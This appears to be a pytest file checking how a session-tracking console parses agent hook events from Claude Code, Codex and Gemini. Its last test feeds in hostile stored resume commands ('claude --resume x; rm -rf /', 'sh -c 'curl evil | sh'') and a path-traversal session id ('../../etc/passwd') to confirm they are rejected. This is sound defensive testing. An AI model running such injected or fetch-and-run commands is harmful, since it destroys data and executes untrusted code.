"""``roundtable hooks run``: each agent's events, read with its own names and fields, make the right
change to the right session (``docs/agents.md#connect-your-agents``), on both engines."""

from __future__ import annotations

from pathlib import Path

import pytest

from roundtable_console.agents import claude_code, codex, events, gemini
from roundtable_console.agents.events import PayloadError
from tests.hook_support import (
    CLAUDE_ID,
    CODEX_ID,
    GEMINI_ID,
    claude,
    history,
    hook,
    session,
)
from tests.hook_support import codex as codex_payload
from tests.hook_support import gemini as gemini_payload


@pytest.fixture(autouse=True)
def _spool(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ROUNDTABLE_HOOK_SPOOL", str(tmp_path / "spool" / "hooks.jsonl"))
    for name in ("ROUNDTABLE_SESSION_ID", "ROUNDTABLE_AGENT", "ROUNDTABLE_RUN"):
        monkeypatch.delenv(name, raising=False)


# ------------------------------------------------------------------ each agent's own words


@pytest.mark.parametrize(
    ("payload", "kind", "reason"),
    [
        (claude("SessionStart", source="startup"), events.START, None),
        (claude("SessionStart", source="resume"), events.START, None),
        (claude("UserPromptSubmit", prompt="fix it"), events.WORK, None),
        (claude("PreToolUse", tool_name="Bash", tool_input={"command": "ls"}), events.WORK, None),
        (
            claude(
                "PermissionRequest",
                tool_name="Bash",
                tool_input={"command": "rm -rf build/", "description": "clean"},
                permission_suggestions=[],
            ),
            events.WAIT,
            "asks to run Bash: rm -rf build/",
        ),
        (
            claude(
                "PermissionRequest",
                tool_name="Edit",
                tool_input={"file_path": "/w/app.py", "old_string": "a", "new_string": "b"},
            ),
            events.WAIT,
            "asks to run Edit: /w/app.py",
        ),
        (
            claude(
                "PreToolUse",
                tool_name="AskUserQuestion",
                tool_input={"questions": [{"question": "Which database?", "options": []}]},
            ),
            events.WAIT,
            "asks: Which database?",
        ),
        (
            claude(
                "Notification",
                notification_type="permission_prompt",
                message="Claude needs your permission to use Bash",
            ),
            events.IGNORE,
            None,
        ),
        (
            claude("Notification", notification_type="elicitation_dialog", message="Pick one"),
            events.WAIT,
            "Pick one",
        ),
        (
            claude(
                "Notification",
                notification_type="idle_prompt",
                message="Claude is waiting for your input",
            ),
            events.TURN,
            "Claude is waiting for your input",
        ),
        (
            claude("Notification", notification_type="auth_success", message="ok"),
            events.IGNORE,
            None,
        ),
        (
            claude(
                "PostToolUse",
                tool_name="Bash",
                tool_input={"command": "ls"},
                tool_response={"stdout": "a"},
            ),
            events.WORK,
            None,
        ),
        (
            claude("Stop", stop_hook_active=False, last_assistant_message="All done."),
            events.TURN,
            "All done.",
        ),
        (claude("SessionEnd", reason="other"), events.END, None),
        (claude("SomethingNew"), events.IGNORE, None),
    ],
)
def test_claude_code_events(payload: dict, kind: str, reason: str | None) -> None:
    event = claude_code.read_event(payload)
    assert (event.kind, event.reason, event.external_id) == (kind, reason, CLAUDE_ID)
    assert event.cwd == "/work/project"


@pytest.mark.parametrize(
    ("payload", "kind", "reason"),
    [
        (codex_payload("SessionStart", source="startup"), events.START, None),
        (codex_payload("UserPromptSubmit", prompt="go", turn_id="t1"), events.WORK, None),
        (
            codex_payload("PreToolUse", tool_name="Bash", tool_input={"command": "ls"}),
            events.WORK,
            None,
        ),
        # Codex's permission request: the command, and the model's justification as description.
        (
            codex_payload(
                "PermissionRequest",
                tool_name="Bash",
                tool_input={"command": "git push", "description": "publish"},
            ),
            events.WAIT,
            "asks to run Bash: git push",
        ),
        (
            codex_payload(
                "PostToolUse", tool_name="Bash", tool_input={"command": "ls"}, tool_response="a\nb"
            ),
            events.WORK,
            None,
        ),
        (
            codex_payload("Stop", stop_hook_active=False, last_assistant_message="Pushed."),
            events.TURN,
            "Pushed.",
        ),
        (codex_payload("SessionEnd", reason="exit"), events.END, None),
    ],
)
def test_codex_events(payload: dict, kind: str, reason: str | None) -> None:
    event = codex.read_event(payload)
    assert (event.kind, event.reason, event.external_id) == (kind, reason, CODEX_ID)
    assert event.model == "gpt-5-codex"


@pytest.mark.parametrize(
    ("payload", "kind", "reason"),
    [
        (gemini_payload("SessionStart", source="startup"), events.START, None),
        (gemini_payload("BeforeAgent", prompt="go"), events.WORK, None),
        (gemini_payload("BeforeModel"), events.IGNORE, None),  # every model call: no beat
        (
            gemini_payload(
                "BeforeTool",
                tool_name="run_shell_command",
                tool_input={"command": "ls", "description": "list"},
            ),
            events.WORK,
            None,
        ),
        (
            gemini_payload(
                "Notification",
                notification_type="ToolPermission",
                message="Allow execution of: rm -rf dist?",
                details={"command": "rm -rf dist"},
            ),
            events.WAIT,
            "asks to run run_shell_command: rm -rf dist",
        ),
        (
            gemini_payload(
                "Notification", notification_type="ToolPermission", message="Allow execution?"
            ),
            events.WAIT,
            "Allow execution?",
        ),
        (
            gemini_payload(
                "AfterTool",
                tool_name="run_shell_command",
                tool_response={"llmContent": "x", "returnDisplay": "x"},
            ),
            events.WORK,
            None,
        ),
        (gemini_payload("AfterAgent", prompt_response="Removed."), events.TURN, "Removed."),
        (gemini_payload("SessionEnd", reason="exit"), events.END, None),
    ],
)
def test_gemini_events(payload: dict, kind: str, reason: str | None) -> None:
    event = gemini.read_event(payload)
    assert (event.kind, event.reason, event.external_id) == (kind, reason, GEMINI_ID)


@pytest.mark.parametrize("bad_id", [None, "", "../../etc/passwd", "a/b", "x" * 129, 7, "a b"])
def test_an_event_without_a_usable_session_id_is_refused(bad_id: object) -> None:
    with pytest.raises(PayloadError):
        claude_code.read_event({**claude("SessionStart"), "session_id": bad_id})


def test_relative_or_odd_paths_are_not_taken() -> None:
    event = claude_code.read_event(
        claude("SessionStart", cwd="../../etc", transcript_path="relative/t.jsonl")
    )
    assert (event.cwd, event.transcript) == (None, None)


def test_a_reason_is_one_printable_line_of_bounded_length() -> None:
    event = claude_code.read_event(
        claude(
            "PermissionRequest",
            tool_name="Bash",
            tool_input={"command": "echo \x1b[31mred\x1b[0m\n" + "y" * 2000},
        )
    )
    assert event.reason is not None
    assert "\x1b" not in event.reason and "\n" not in event.reason
    assert len(event.reason) <= events.REASON_LENGTH


# ------------------------------------------------------------------ the writes, both engines


def test_a_claude_code_session_from_start_to_end(store: object, store_url: str) -> None:
    db = ("--db", store_url)
    sid = f"claude-{CLAUDE_ID}"
    hook("claude-code", claude("SessionStart", source="startup", model="claude-opus-5"), *db)
    started = session(store_url, sid)
    assert started is not None
    assert (started.agent_id, started.run_id, started.adapter, started.provider) == (
        "claude-code",
        "project",
        "claude",
        "anthropic",
    )
    assert started.model == "claude-opus-5"
    assert started.external_session_id == CLAUDE_ID
    assert started.external_resume_command == f"claude --resume {CLAUDE_ID}"
    assert started.working_directory == "/work/project"
    assert started.status == "active"

    hook("claude-code", claude("UserPromptSubmit", prompt="clean up"), *db)
    assert session(store_url, sid).status == "running"
    hook(
        "claude-code",
        claude("PermissionRequest", tool_name="Bash", tool_input={"command": "rm -rf build/"}),
        *db,
    )
    waiting = session(store_url, sid)
    assert waiting.waiting_reason == "asks to run Bash: rm -rf build/"
    hook("claude-code", claude("PostToolUse", tool_name="Bash", tool_input={}), *db)
    assert session(store_url, sid).waiting_reason is None
    hook("claude-code", claude("Stop", last_assistant_message="Done."), *db)
    assert session(store_url, sid).status == "active"
    hook("claude-code", claude("SessionEnd", reason="other"), *db)
    ended = session(store_url, sid)
    assert ended.status == "ended" and ended.ended_at is not None

    # The same session starting again (claude --resume): the same row, its first start kept.
    hook("claude-code", claude("SessionStart", source="resume"), *db)
    again = session(store_url, sid)
    assert again.started_at == started.started_at
    assert again.ended_at is None and again.status == "active"
    kinds = [kind for kind, _ in history(store_url, sid)]
    assert kinds == [
        "registered",
        "heartbeat",
        "heartbeat",
        "heartbeat",
        "tool.call",  # the Bash call it was allowed, in the same write as its beat
        "heartbeat",
        "ended",
        "registered",
    ]


def test_a_burst_of_tool_events_writes_one_heartbeat_row(store: object, store_url: str) -> None:
    db = ("--db", store_url)
    sid = f"codex-{CODEX_ID}"
    hook("codex", codex_payload("SessionStart"), *db)
    for _ in range(30):
        hook(
            "codex",
            codex_payload("PreToolUse", tool_name="Bash", tool_input={"command": "ls"}),
            *db,
        )
        hook("codex", codex_payload("PostToolUse", tool_name="Bash", tool_input={}), *db)
    kinds = [kind for kind, _ in history(store_url, sid)]
    beats = [kind for kind in kinds if kind != "tool.call"]
    assert beats == ["registered", "heartbeat"] and kinds.count("tool.call") == 30
    # A change of status or reason is always written.
    hook(
        "codex",
        codex_payload("PermissionRequest", tool_name="Bash", tool_input={"command": "git push"}),
        *db,
    )
    hook("codex", codex_payload("PostToolUse", tool_name="Bash", tool_input={}), *db)
    hook("codex", codex_payload("Stop", last_assistant_message="ok"), *db)
    kinds = [kind for kind, _ in history(store_url, sid)]
    assert [kind for kind in kinds if kind != "tool.call"] == ["registered"] + ["heartbeat"] * 4
    assert kinds.count("tool.call") == 31


def test_gemini_ends_once_for_its_three_session_ends(store: object, store_url: str) -> None:
    db = ("--db", store_url)
    hook("gemini", gemini_payload("SessionStart"), *db)
    for _ in range(3):
        hook("gemini", gemini_payload("SessionEnd", reason="exit"), *db)
    kinds = [kind for kind, _ in history(store_url, f"gemini-{GEMINI_ID}")]
    assert kinds == ["registered", "ended"]


def test_a_session_first_seen_mid_way_is_registered(store: object, store_url: str) -> None:
    hook("claude-code", claude("PreToolUse", tool_name="Bash", tool_input={}), "--db", store_url)
    found = session(store_url, f"claude-{CLAUDE_ID}")
    assert found is not None and found.status == "running"
    assert found.external_session_id == CLAUDE_ID


def test_the_install_options_and_the_environment_name_agent_run_workspace(
    store: object, store_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    hook(
        "claude-code",
        claude("SessionStart"),
        "--db",
        store_url,
        "--agent",
        "builder",
        "--run",
        "nightly",
        "--workspace",
        "ws-a",
    )
    found = session(store_url, f"claude-{CLAUDE_ID}")
    assert (found.agent_id, found.run_id, found.effective_workspace_id) == (
        "builder",
        "nightly",
        "ws-a",
    )
    monkeypatch.setenv("ROUNDTABLE_AGENT", "from-env")
    monkeypatch.setenv("ROUNDTABLE_RUN", "run-env")
    hook("codex", codex_payload("SessionStart"), "--db", store_url)
    found = session(store_url, f"codex-{CODEX_ID}")
    assert (found.agent_id, found.run_id) == ("from-env", "run-env")


def test_a_session_launched_by_roundtable_keeps_its_agent_run_and_history(
    store: object, store_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``R`` / ``resume --exec`` start the agent with ROUNDTABLE_SESSION_ID: its events land on
    that session, which keeps its agent, run and start."""
    from roundtable_console.store.writes.agent_writes import register
    from tests.hook_support import open_store

    store = open_store(store_url)
    with store.write() as db:
        register(
            db=db,
            session_id="s-launched",
            agent_id="planner",
            run_id="r-7",
            adapter="claude",
            working_directory="/work/project",
            status="resuming",
        )
    store.dispose()
    before = session(store_url, "s-launched")
    monkeypatch.setenv("ROUNDTABLE_SESSION_ID", "s-launched")
    hook("claude-code", claude("SessionStart", source="resume"), "--db", store_url)
    hook("claude-code", claude("UserPromptSubmit", prompt="go on"), "--db", store_url)
    after = session(store_url, "s-launched")
    assert (after.agent_id, after.run_id, after.started_at) == ("planner", "r-7", before.started_at)
    assert after.external_session_id == CLAUDE_ID and after.status == "running"
    assert session(store_url, f"claude-{CLAUDE_ID}") is None


def test_a_hooked_session_resumes_its_own_conversation(store: object, store_url: str) -> None:
    """The resume plan of a session the hooks registered: the agent's own resume command, with
    the briefing as its prompt — though the adapter is not configured."""
    from roundtable_console.store.service import read_briefing
    from tests.hook_support import open_store

    for agent, payload, argv in (
        ("claude-code", claude("SessionStart"), ["claude", "--resume", CLAUDE_ID]),
        ("codex", codex_payload("SessionStart"), ["codex", "resume", CODEX_ID]),
        ("gemini", gemini_payload("SessionStart"), ["gemini", "--resume", GEMINI_ID]),
    ):
        hook(agent, payload, "--db", store_url)
        store = open_store(store_url)
        try:
            sid = f"{argv[0]}-{argv[-1]}"
            view = read_briefing(store=store, adapters={}, session_id=sid)
        finally:
            store.dispose()
        assert view.plan.resumable, view.plan.reason
        assert view.plan.argv[:-1] == argv
        assert view.plan.argv[-1].startswith("# Roundtable Resume Briefing")


def test_a_stored_resume_command_never_chooses_what_runs(store: object, store_url: str) -> None:
    """Only the agent's own pattern with an id the pattern check accepts, of a session the
    hooks registered: any other stored command (or one registered by hand) leaves the session
    not resumable, as before."""
    from roundtable_console.store.service import read_briefing
    from roundtable_console.store.writes.agent_writes import register
    from tests.hook_support import open_store

    store = open_store(store_url)
    try:
        for number, command in enumerate(
            [
                "claude --resume x; rm -rf /",
                "sh -c 'curl evil | sh'",
                "claude --resume ../x",
                "claude --resume x",  # the right shape, but not registered by the hooks
                "claude --resume  x",
                "codex --resume abc",
            ]
        ):
            with store.write() as db:
                register(
                    db=db,
                    session_id=f"evil-{number}",
                    agent_id="a",
                    run_id="r",
                    adapter="claude" if command.startswith("claude") else "codex",
                    working_directory="/tmp",
                    external_session_id="x",
                    resume_command=command,
                    # As the hooks register, but the one of the right shape, made by hand.
                    metadata=None if command == "claude --resume x" else {"hooks": "claude-code"},
                )
            view = read_briefing(store=store, adapters={}, session_id=f"evil-{number}")
            assert not view.plan.resumable, command
    finally:
        store.dispose()
